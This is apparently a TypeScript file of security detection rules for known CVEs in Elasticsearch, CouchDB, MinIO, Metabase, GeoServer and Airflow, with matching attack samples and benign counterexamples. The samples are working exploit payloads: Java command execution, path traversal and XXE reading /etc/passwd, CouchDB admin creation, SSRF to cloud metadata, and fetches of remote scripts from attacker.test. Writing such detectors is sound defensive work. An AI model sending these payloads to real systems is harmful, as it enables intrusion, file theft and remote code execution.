import { get, jsonPost, send, xmlPost } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  bodyHas,
  bodyMatches,
  decodedQueryHas,
  fieldMatches,
  methodIs,
  pathHas,
  rawPathHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

/** Databases, search engines, storage and analytics. */
export const dataPlatformRules = [
  detection({
    ref: 'managed-elasticsearch-script',
    description:
      'Elasticsearch: runs Java in the script of a search (CVE-2014-3120, CVE-2015-1427)',
    categories: [
      'elasticsearch',
      'code-injection',
      'remote-code-execution',
      'cve-2014-3120',
      'cve-2015-1427',
    ],
    expression: allOf(
      pathHas('/_search', '/_msearch', '/_update'),
      anyOf(
        allOf(
          bodyHas('script'),
          bodyHas('getruntime', 'java.lang.runtime', 'forname(', 'processbuilder'),
        ),
        decodedQueryHas('java.lang.runtime', 'getruntime'),
      ),
    ),
    matching: [
      jsonPost('/_search?pretty', {
        script_fields: {
          x: {
            script: 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("id")',
          },
        },
      }),
      get('/website/_search?source=%7B%22script%22%3A%22java.lang.Runtime%22%7D'),
    ],
    other: [
      jsonPost('/logs/_msearch', {
        query: { match: { message: 'java.lang.NullPointerException' } },
      }),
      jsonPost('/books/_search', { query: { match: { title: 'java language' } } }),
      jsonPost('/books/_search', { script_fields: { x: { script: "doc['price'].value * 2" } } }),
    ],
  }),
  detection({
    ref: 'managed-elasticsearch-files',
    description:
      'Elasticsearch: reads files through a plugin or a snapshot (CVE-2015-3337, CVE-2015-5531)',
    categories: ['elasticsearch', 'directory-traversal', 'cve-2015-3337', 'cve-2015-5531'],
    expression: allOf(rawPathHas('/_plugin/', '/_snapshot/'), rawPathHas('../', '..%2f', '%2e%2e')),
    matching: [
      get('/_plugin/head/../../../../../../etc/passwd'),
      get('/_snapshot/x/backdata%2f..%2f..%2f..%2fetc%2fpasswd'),
    ],
    other: [get('/_plugin/head/index.html'), get('/_snapshot/backup/snapshot_1')],
  }),
  detection({
    ref: 'managed-couchdb-roles',
    description: 'CouchDB: creates an administrator with a repeated name in JSON (CVE-2017-12635)',
    categories: ['couchdb', 'authentication-bypass', 'cve-2017-12635'],
    expression: allOf(pathHas('/_users/org.couchdb.user'), bodyMatches('"roles".*"roles"')),
    matching: [
      send(
        'PUT',
        '/_users/org.couchdb.user:eve',
        'application/json',
        '{"type":"user","name":"eve","roles":["_admin"],"roles":[],"password":"x"}',
      ),
      send(
        'PUT',
        '/_users/org.couchdb.user:x',
        'application/json',
        '{"roles":["_admin"],"name":"x","roles":[]}',
      ),
    ],
    other: [
      send(
        'PUT',
        '/_users/org.couchdb.user:ada',
        'application/json',
        '{"type":"user","name":"ada","roles":[],"password":"x"}',
      ),
      get('/_users/org.couchdb.user:ada'),
    ],
  }),
  detection({
    ref: 'managed-couchdb-query-server',
    description: 'CouchDB: registers a command as a query server (CVE-2017-12636)',
    categories: ['couchdb', 'command-injection', 'remote-code-execution', 'cve-2017-12636'],
    expression: allOf(
      pathHas('/_config/query_servers/', '/_config/native_query_servers/', '/_config/os_daemons/'),
      methodIs('PUT'),
    ),
    matching: [
      send('PUT', '/_config/query_servers/cmd', 'application/json', '"id >/tmp/x"'),
      send('PUT', '/_node/couchdb@localhost/_config/query_servers/cmd', 'application/json', '"id"'),
    ],
    other: [
      get('/_config/query_servers/'),
      send('PUT', '/_config/log/level', 'application/json', '"info"'),
    ],
  }),
  detection({
    ref: 'managed-minio-verify',
    description: 'MinIO: reads variables with keys from the start of a cluster (CVE-2023-28432)',
    categories: ['minio', 'information-disclosure', 'cve-2023-28432'],
    expression: pathHas('/minio/bootstrap/v1/verify'),
    matching: [
      send('POST', '/minio/bootstrap/v1/verify', 'text/plain', ''),
      get('/minio/bootstrap/v1/verify'),
    ],
    other: [get('/minio/health/live'), get('/bucket/minio/bootstrap.css')],
  }),
  detection({
    ref: 'managed-metabase-setup',
    description: 'Metabase: runs code with the address of a database at set-up (CVE-2023-38646)',
    categories: ['metabase', 'code-injection', 'remote-code-execution', 'cve-2023-38646'],
    expression: allOf(
      bodyHas('"engine"', '"details"'),
      pathHas('/api/setup/validate', '/api/setup', '/api/database'),
      bodyHas('init=', 'trace_level_system_out', 'create trigger', 'runscript', 'zip:'),
    ),
    matching: [
      jsonPost('/api/setup/validate', {
        token: '5f',
        details: {
          engine: 'h2',
          details: {
            db: "zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER x BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime().exec('id')\n$$",
          },
        },
      }),
      jsonPost('/api/setup/validate', {
        details: { details: { db: "mem:;INIT=RUNSCRIPT FROM 'http://attacker.test/'" } },
      }),
    ],
    other: [
      jsonPost('/api/setup/validate', {
        token: '5f',
        details: { engine: 'postgres', details: { host: 'db.example.com', dbname: 'shop' } },
      }),
      get('/api/setup/admin_checklist'),
    ],
  }),
  detection({
    ref: 'managed-metabase-files',
    description: 'Metabase: reads files as a map (CVE-2021-41277)',
    categories: ['metabase', 'directory-traversal', 'ssrf', 'cve-2021-41277'],
    expression: allOf(
      pathHas('/api/geojson'),
      fieldMatches('url', '^(?:file|jar|netdoc|classpath):|//(?:127\\.|localhost|169\\.254\\.)'),
    ),
    matching: [
      get('/api/geojson?url=file:///etc/passwd'),
      get('/api/geojson?url=http%3A%2F%2F169.254.169.254%2F'),
    ],
    other: [
      get('/api/geojson?url=https://maps.example.com/regions.json'),
      get('/api/geojson/us_states'),
    ],
  }),
  detection({
    ref: 'managed-geoserver-expression',
    description: 'GeoServer: runs Java in the name of a property (CVE-2024-36401)',
    categories: ['geoserver', 'code-injection', 'remote-code-execution', 'cve-2024-36401'],
    expression: allOf(
      pathHas('/wfs', '/wms', '/wps', '/ows'),
      anyOf(
        decodedQueryHas('java.lang', 'getruntime', 'exec('),
        bodyHas('java.lang', 'getruntime', 'exec('),
      ),
      anyOf(decodedQueryHas('(', 'java.'), bodyHas('(', 'java.')),
    ),
    matching: [
      get(
        '/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
      ),
      xmlPost(
        '/geoserver/wfs',
        '<wfs:GetPropertyValue valueReference="exec(java.lang.Runtime.getRuntime(),\'id\')"/>',
      ),
    ],
    other: [
      get(
        '/geoserver/wfs?service=WFS&request=GetPropertyValue&typeNames=sf:roads&valueReference=name',
      ),
      xmlPost(
        '/geoserver/wfs',
        '<wfs:GetFeature><wfs:Query typeNames="sf:roads"/></wfs:GetFeature>',
      ),
    ],
  }),
  detection({
    ref: 'managed-geoserver-entity',
    description: 'GeoServer: reads files with XML entities (CVE-2025-30220, CVE-2025-58360)',
    categories: ['geoserver', 'xxe', 'cve-2025-30220', 'cve-2025-58360'],
    expression: allOf(pathHas('/geoserver/'), bodyHas('<!entity', '<!doctype')),
    matching: [
      xmlPost(
        '/geoserver/wms?service=WMS&version=1.1.0&request=GetMap',
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><StyledLayerDescriptor><Name>&x;</Name></StyledLayerDescriptor>',
      ),
      xmlPost('/geoserver/wfs', '<!DOCTYPE a SYSTEM "http://attacker.test/a.dtd"><a/>'),
    ],
    other: [
      xmlPost(
        '/geoserver/wms?request=GetMap',
        '<StyledLayerDescriptor version="1.0.0"><Name>roads</Name></StyledLayerDescriptor>',
      ),
      xmlPost('/feed', '<!DOCTYPE rss><rss/>'),
    ],
  }),
  detection({
    ref: 'managed-airflow-example-dag',
    description:
      'Apache Airflow: runs a command in the configuration of an example (CVE-2020-11978, CVE-2020-13927)',
    categories: ['apache-airflow', 'command-injection', 'cve-2020-11978', 'cve-2020-13927'],
    expression: allOf(
      pathHas('/dags/'),
      pathHas('example_trigger_target_dag', '/dag_runs', '/dagruns'),
      bodyMatches('"message" *: *"[^"]{0,200}[\\\\;`$&|]'),
    ),
    matching: [
      jsonPost('/api/experimental/dags/example_trigger_target_dag/dag_runs', {
        conf: { message: '"; id #' },
      }),
      jsonPost('/api/v1/dags/example_trigger_target_dag/dagRuns', { conf: { message: '$(id)' } }),
    ],
    other: [
      jsonPost('/api/v1/dags/reports/dagRuns', { conf: { message: 'Monthly report' } }),
      get('/api/v1/dags/reports/dagRuns'),
    ],
  }),
];
